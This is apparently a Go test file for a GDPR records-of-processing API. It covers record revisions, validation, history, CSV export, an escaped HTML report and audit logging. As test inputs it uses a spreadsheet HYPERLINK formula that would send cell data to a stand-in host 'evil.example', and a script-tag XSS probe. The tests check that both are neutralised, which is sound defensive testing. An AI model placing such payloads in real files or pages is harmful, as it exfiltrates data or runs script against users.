package api_test

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"
)

type processingRecord struct {
	System     string   `json:"system"`
	Revision   int      `json:"revision"`
	Purpose    string   `json:"purpose"`
	LegalBasis string   `json:"legal_basis"`
	Recipients []string `json:"recipients"`
	Transfers  []struct {
		Country   string `json:"country"`
		Safeguard string `json:"safeguard"`
	} `json:"transfers"`
	ChangedBy string    `json:"changed_by"`
	ChangedAt time.Time `json:"changed_at"`
}

type recordEntry struct {
	System        string                         `json:"system"`
	MissingRecord bool                           `json:"missing_record"`
	Discovered    *struct{ Categories []string } `json:"discovered"`
	Record        *processingRecord              `json:"record"`
}

// piaLine is one finding of the fs scan scan on web-1 (the harness's
// agent), observed at hour h of the day.
func piaLine(scan, asset, typ, category string, h int) string {
	return fmt.Sprintf(`{"kind":"pii","source":"fs","scan_id":%q,"observed_at":"2026-11-01T%02d:00:00Z","asset_id":%q,"location":"file:///srv/%s.csv","type":%q,"category":%q,"count":5,"distinct":4,"confidence":"high"}`,
		scan, h, asset, asset, typ, category)
}

func piaScan(scan string, h int) string {
	return fmt.Sprintf(`{"kind":"scan","source":"fs","scan_id":%q,"observed_at":"2026-11-01T%02d:01:00Z","scanner":"fs","started_at":"2026-11-01T%02d:00:00Z","finished_at":"2026-11-01T%02d:01:00Z","status":"ok"}`,
		scan, h, h, h)
}

// TestRecordsOfProcessing: after a scan through the API, web-1's files are
// a system without a record; a DPO writes its record (a purpose a
// spreadsheet would take for a formula), changes it, is refused a stale
// change and an invalid legal basis; the record's history names who and
// when; a system nobody scans can be recorded too; the CSV export
// neutralises the formula and the printable report escapes markup under
// the console's CSP; every write is audited without its free text.
func TestRecordsOfProcessing(t *testing.T) {
	h := newHarness(t, 1<<20)
	code, body := h.ingest("s1", piaLine("s1", "crm", "email", "contact", 10)+"\n"+piaScan("s1", 10)+"\n")
	require.Equal(t, http.StatusOK, code, body)
	call := h.jsonCall

	var list struct {
		Items   []recordEntry `json:"items"`
		Missing int           `json:"missing"`
		AsOf    time.Time     `json:"as_of"`
	}
	call("GET", "/api/v1/records", "", 200, &list)
	require.Len(t, list.Items, 1)
	require.Equal(t, "fs:web-1", list.Items[0].System)
	require.True(t, list.Items[0].MissingRecord, "no record yet: flagged")
	require.Nil(t, list.Items[0].Record)
	require.Equal(t, []string{"contact"}, list.Items[0].Discovered.Categories)
	require.Equal(t, 1, list.Missing)
	require.False(t, list.AsOf.IsZero(), "the discovered facts say as of when")

	const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
	first := `{"purpose":` + jsonStr(formula) + `,"legal_basis":"contract","retention":"6 years after the contract ends",
		"recipients":["payroll provider"],"transfers":[{"country":"US","safeguard":"standard_contractual_clauses"}],
		"controller":"Example GmbH","owner":"crm-team","dpo_contact":"dpo@example.org","base_revision":0}`
	var r1, r2 processingRecord
	call("PUT", "/api/v1/records/fs:web-1", first, 200, &r1)
	require.Equal(t, 1, r1.Revision)
	require.Equal(t, "test", r1.ChangedBy)
	require.Equal(t, "US", r1.Transfers[0].Country)
	second := strings.Replace(first, `"base_revision":0`, `"base_revision":1`, 1)
	second = strings.Replace(second, `"contract"`, `"legitimate_interests"`, 1)
	call("PUT", "/api/v1/records/fs:web-1", second, 200, &r2)
	require.Equal(t, 2, r2.Revision)
	// A change made against revision 1 after revision 2: refused.
	call("PUT", "/api/v1/records/fs:web-1", second, 409, nil)
	for _, bad := range []struct{ path, body string }{
		{"/api/v1/records/fs:web-1", `{"purpose":"x","legal_basis":"because"}`},
		{"/api/v1/records/fs:web-1", `{"purpose":"","legal_basis":"consent"}`},
		{"/api/v1/records/fs:web-1", `{"purpose":"x","legal_basis":"consent","transfers":[{"country":"usa","safeguard":"adequacy_decision"}]}`},
		{"/api/v1/records/fs:web-1", `{"purpose":"x","legal_basis":"consent","transfers":[{"country":"US","safeguard":"trust"}]}`},
		{"/api/v1/records/web-1", `{"purpose":"x","legal_basis":"consent"}`},
	} {
		call("PUT", bad.path, bad.body, 400, nil)
	}
	// A system no scan covers (an HR SaaS) can be recorded.
	call("PUT", "/api/v1/records/saas:workday", `{"purpose":"<script>alert(1)</script> HR","legal_basis":"legal_obligation"}`, 200, nil)

	var detail struct {
		recordEntry
		History []processingRecord `json:"history"`
	}
	call("GET", "/api/v1/records/fs:web-1", "", 200, &detail)
	require.False(t, detail.MissingRecord)
	require.Equal(t, 2, detail.Record.Revision)
	require.Equal(t, "legitimate_interests", detail.Record.LegalBasis)
	require.Len(t, detail.History, 2)
	require.Equal(t, []string{"contract", "legitimate_interests"}, []string{detail.History[0].LegalBasis, detail.History[1].LegalBasis})
	for _, rev := range detail.History {
		require.Equal(t, "test", rev.ChangedBy)
		require.False(t, rev.ChangedAt.IsZero())
	}
	call("GET", "/api/v1/records/fs:db-9", "", 404, nil)

	call("GET", "/api/v1/records", "", 200, &list)
	require.Len(t, list.Items, 2)
	require.Equal(t, 0, list.Missing)
	require.Equal(t, "saas:workday", list.Items[1].System)
	require.Nil(t, list.Items[1].Discovered, "no scan covers it")

	// CSV: the formula is neutralised, the rest as written.
	out := call("GET", "/api/v1/records?format=csv", "", 200, nil)
	rows, err := csv.NewReader(strings.NewReader(out)).ReadAll()
	require.NoError(t, err)
	require.Len(t, rows, 3)
	col := map[string]int{}
	for i, name := range rows[0] {
		col[name] = i
	}
	require.Equal(t, "fs:web-1", rows[1][col["system"]])
	require.Equal(t, "'"+formula, rows[1][col["purpose"]], "a formula is written as text")
	require.Equal(t, "legitimate_interests", rows[1][col["legal_basis"]])
	require.Equal(t, "US (standard_contractual_clauses)", rows[1][col["transfers"]])
	require.Equal(t, "contact", rows[1][col["data_categories"]])
	require.Equal(t, "2", rows[1][col["revision"]])
	require.Equal(t, "false", rows[2][col["discovered"]])

	// The printable report: escaped, no script or outside asset allowed.
	code, page := h.do("GET", "/api/v1/records/report", h.admin, nil, nil)
	require.Equal(t, 200, code, page)
	require.Contains(t, page, "&lt;script&gt;alert(1)&lt;/script&gt; HR")
	require.NotContains(t, page, "<script>")
	require.Contains(t, page, "legitimate_interests")
	req, err := http.NewRequest("GET", h.srv.URL+"/api/v1/records/report", nil)
	require.NoError(t, err)
	req.Header.Set("Authorization", "Bearer "+h.admin)
	resp, err := http.DefaultClient.Do(req)
	require.NoError(t, err)
	resp.Body.Close()
	require.Contains(t, resp.Header.Get("Content-Security-Policy"), "default-src 'none'")
	require.Equal(t, "text/html; charset=utf-8", resp.Header.Get("Content-Type"))

	// Audited: each write with its system and revision, never the text.
	audit := call("GET", "/api/v1/audit?limit=100", "", 200, nil)
	require.Contains(t, audit, "system=fs:web-1 revision=2 legal_basis=legitimate_interests")
	require.NotContains(t, audit, "HYPERLINK")
	require.NotContains(t, audit, "payroll")
}

// jsonCall sends in (JSON, when not empty) with the admin token, requires
// the status want and decodes the answer into out (when not nil).
func (h *harness) jsonCall(method, path, in string, want int, out any) string {
	h.t.Helper()
	var hdr map[string]string
	var rd io.Reader
	if in != "" {
		hdr, rd = map[string]string{"Content-Type": "application/json"}, strings.NewReader(in)
	}
	code, body := h.do(method, path, h.admin, hdr, rd)
	require.Equal(h.t, want, code, "%s %s: %s", method, path, body)
	if out != nil {
		require.NoError(h.t, json.Unmarshal([]byte(body), out), body)
	}
	return body
}

func jsonStr(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}
